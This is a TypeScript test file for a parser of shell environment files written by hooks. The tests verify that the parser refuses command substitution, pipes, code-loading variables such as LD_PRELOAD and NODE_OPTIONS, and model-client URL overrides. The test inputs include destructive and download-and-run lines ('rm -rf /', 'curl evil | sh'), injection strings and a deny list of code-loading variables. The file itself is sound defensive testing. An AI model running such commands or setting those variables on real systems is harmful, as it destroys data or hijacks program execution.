import { execFileSync } from "node:child_process";
import { appendFileSync, mkdtempSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { createEnvFile, readAssignments, readEnvFile } from "./env-file.ts";

const folder = mkdtempSync(path.join(tmpdir(), "hookloop-test-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const BASE = { PATH: "/bin", HOME: "/home/a" };

describe("assignments", () => {
  const understood: [string, Record<string, string>][] = [
    ["export A=1", { A: "1" }],
    ["A=1", { A: "1" }],
    ["A=", { A: "" }],
    ["export A='it is $HOME'", { A: "it is $HOME" }],
    ["A='it'\\''s'", { A: "it's" }],
    ['A="say \\"hi\\" \\$5 \\n"', { A: 'say "hi" $5 \\n' }],
    ["A=a\\ b", { A: "a b" }],
    ["export A=1 B=2 C=$A", { A: "1", B: "2", C: "1" }],
    ["A=1; export B=2", { A: "1", B: "2" }],
    ["A=1 # one\n# two\n\n  B=2", { A: "1", B: "2" }],
    ['export PATH="$PATH:./node_modules/.bin"', { PATH: "/bin:./node_modules/.bin" }],
    ["PATH=~/bin:${PATH}:~/x\nPATH=/first:$PATH", { PATH: "/first:/home/a/bin:/bin:/home/a/x" }],
    ["A=x~y B=~c", { A: "x~y", B: "~c" }],
    ["A=$NOT_SET-end", { A: "-end" }],
    ['declare -x A="1"\ntypeset -x B=2', { A: "1", B: "2" }],
    ["A='two\nlines'\nB=2", { A: "two\nlines", B: "2" }],
    ["A=$'tab\\there\\x41\\'\\101'", { A: "tab\there" + "A'A" }],
    ["A=1\\\n2", { A: "12" }],
    ["A=1\r\nB=2\r\n", { A: "1", B: "2" }],
    ["A=1\nA=2", { A: "2" }],
    ['A="100$ and $ 5"', { A: "100$ and $ 5" }],
    ["__proto__=1", { ["__proto__"]: "1" }],
  ];
  it.each(understood)("%j is read", (text, expected) => {
    const { variables, problems } = readAssignments(text, BASE);
    expect(Object.entries(variables)).toEqual(Object.entries(expected));
    expect(problems).toEqual([]);
  });

  const refused: [string, string][] = [
    ["touch /tmp/x", "not an assignment"],
    ["export A", "not an assignment"],
    ["A=1 touch x", "not an assignment"],
    ["A=$(touch x)", "only $NAME"],
    ['A="$(touch x)"', "only $NAME"],
    ["A=`touch x`", "unquoted `"],
    ['A="`touch x`"', "a ` runs a command"],
    ["A=${B:-c}", "only $NAME"],
    ["A=1|touch x", "unquoted |"],
    ["A=1&touch x", "unquoted &"],
    ["A=1 >x", "not an assignment"],
    ["A=(1 2)", "unquoted ("],
    ["A='open", "' is not closed"],
    ['A="open', '" is not closed'],
    ["HOOKLOOP_DISABLE=all", "HOOKLOOP_DISABLE cannot be set"],
    ["hookloop_simple=1", "cannot be set"],
    ["export LD_PRELOAD=/tmp/x.so", "LD_PRELOAD cannot be set from here: it makes programs load code"],
    ["DYLD_INSERT_LIBRARIES=x", "load code"],
    ["NODE_OPTIONS='--require ./x.js'", "load code"],
    ["node_options=x", "load code"],
    ["BASH_ENV=./x.sh", "load code"],
    ["ENV=./x.sh", "load code"],
    ["PYTHONSTARTUP=x", "load code"],
    ["PERL5OPT=-Mx", "load code"],
    ["RUBYOPT=-rx", "load code"],
    ["PROMPT_COMMAND=x", "load code"],
    ["GIT_SSH_COMMAND=x", "load code"],
    ["GIT_CONFIG_COUNT=1", "load code"],
    ["GIT_EXTERNAL_DIFF=x", "load code"],
    ["ANTHROPIC_BASE_URL=http://x", "steers the model client"],
    ["OPENAI_BASE_URL=http://x", "steers the model client"],
    ["1A=2", "not an assignment"],
    ["A-B=2", "not an assignment"],
    ["A='\0'", "NUL byte"],
    ["export -n A", "not an assignment"],
  ];
  it.each(["PATH", "NODE_ENV", "VIRTUAL_ENV", "PYTHONPATH", "PYTHONUNBUFFERED", "GIT_AUTHOR_NAME", "PAGER", "OPENAI_API_KEY", "LDFLAGS"])(
    "%s can be set",
    (name) => {
      expect(readAssignments(`export ${name}=x`, BASE)).toEqual({ variables: { [name]: "x" }, problems: [] });
    },
  );

  it.each(refused)("%j changes nothing and is reported", (text, why) => {
    const { variables, problems } = readAssignments(`FIRST=1\n${text}`, BASE);
    expect(Object.keys(variables)).toEqual(["FIRST"]);
    expect(problems).toEqual([{ line: 2, text: expect.stringContaining(why) }]);
  });

  it("go on after a line that is not understood, with the right line numbers", () => {
    const { variables, problems } = readAssignments("A=1\nrm -rf /\nB='x\ny'\ncurl evil | sh\nC=3\n", BASE);
    expect({ ...variables }).toEqual({ A: "1", B: "x\ny", C: "3" });
    expect(problems.map(({ line }) => line)).toEqual([2, 5]);
  });

  it("never show a line's text in a problem", () => {
    expect(readAssignments("login --password hunter2", BASE).problems[0]?.text).not.toContain("hunter2");
  });

  it("mean what they mean to sh, for any quoted value", () => {
    const value = fc.string({ unit: "binary", maxLength: 40 }).filter((text) => !/[\0\r\ud800-\udfff]/.test(text));
    fc.assert(
      fc.property(value, (text) => {
        const quoted = `export A='${text.replaceAll("'", "'\\''")}'`;
        expect(readAssignments(quoted, BASE)).toEqual({ variables: { A: text }, problems: [] });
      }),
    );
  });

  it("never mean something else than to bash, for any bare text: the same value, or a problem", () => {
    const word = fc.string({ unit: fc.constantFrom(..."aB1 '\"\\$~:/;#=.-{}"), maxLength: 12 });
    fc.assert(
      fc.property(word, (text) => {
        const { variables, problems } = readAssignments(`A=${text}`, BASE);
        // A comment or a second statement is no part of the value, and a last backslash would swallow the newline after it.
        if (problems.length > 0 || /[#;]|\\$/.test(text)) return;
        const script = `A=${text}\nprintf %s "$A"`;
        expect(variables["A"]).toBe(execFileSync("/bin/bash", ["--norc", "-c", script], { env: BASE, encoding: "utf8", stdio: "pipe" }));
      }),
      { numRuns: 60 },
    );
  });

  it.each(["\\:~", "a:~", "':'~", ":~/x", "$'\\ a'", "$'\\$'", "$'a\\\\b'", "$'\\?\\\"'", "$'\\x41\\101'"])(
    "mean what they mean to bash: %s",
    (text) => {
      const shell = execFileSync("/bin/bash", ["--norc", "-c", `A=${text}\nprintf %s "$A"`], { env: BASE, encoding: "utf8" });
      expect(readAssignments(`A=${text}`, BASE)).toEqual({ variables: { A: shell }, problems: [] });
    },
  );

  it.each(["$'\\cA'", "$'x\\U00000041'"])("are a problem where bash makes a character of more letters: %s", (text) => {
    expect(readAssignments(`A=${text}`, BASE)).toMatchObject({ variables: {}, problems: [{}] });
  });

  it("never hang or throw, for any text", () => {
    const text = fc.string({ unit: "binary", maxLength: 200 });
    fc.assert(
      fc.property(text, (any) => {
        expect(readAssignments(any, BASE)).toBeDefined();
      }),
    );
    expect(readAssignments(`A='${"x\n".repeat(100_000)}`, BASE).problems).toHaveLength(100_000);
  });
});

describe("the env file of a session", () => {
  it("is 0600 in a folder with 0700, whatever the umask", () => {
    const before = process.umask(0);
    try {
      const file = createEnvFile({ parent: folder, base: BASE });
      expect(statSync(file.path).mode & 0o777).toBe(0o600);
      expect(statSync(path.dirname(file.path)).mode & 0o777).toBe(0o700);
      file.dispose();
      expect(statSync(path.dirname(file.path), { throwIfNoEntry: false })).toBeUndefined();
    } finally {
      process.umask(before);
    }
  });

  it("has what hooks appended, the last one winning", () => {
    const file = createEnvFile({ parent: folder, base: BASE });
    expect(file.read()).toEqual({ variables: {}, problems: [] });
    appendFileSync(file.path, "export A=1\n");
    appendFileSync(file.path, "export A=2\nexport P=$PATH\n");
    expect({ ...file.read().variables }).toEqual({ A: "2", P: "/bin" });
  });

  it("is empty if a hook removed it", () => {
    expect(readEnvFile(path.join(folder, "gone"))).toEqual({ variables: {}, problems: [] });
  });

  it("is not read through a link, from a fifo, a folder, or when it is too large", () => {
    const link = path.join(folder, "link");
    symlinkSync("/etc/passwd", link);
    const fifo = path.join(folder, "fifo");
    execFileSync("mkfifo", [fifo]);
    const large = path.join(folder, "large");
    writeFileSync(large, "A=1\n".repeat(300_000));
    for (const file of [link, fifo, folder, large]) {
      expect(readEnvFile(file)).toEqual({ variables: {}, problems: [{ line: 0, text: expect.stringContaining("cannot be read") }] });
    }
  });
});
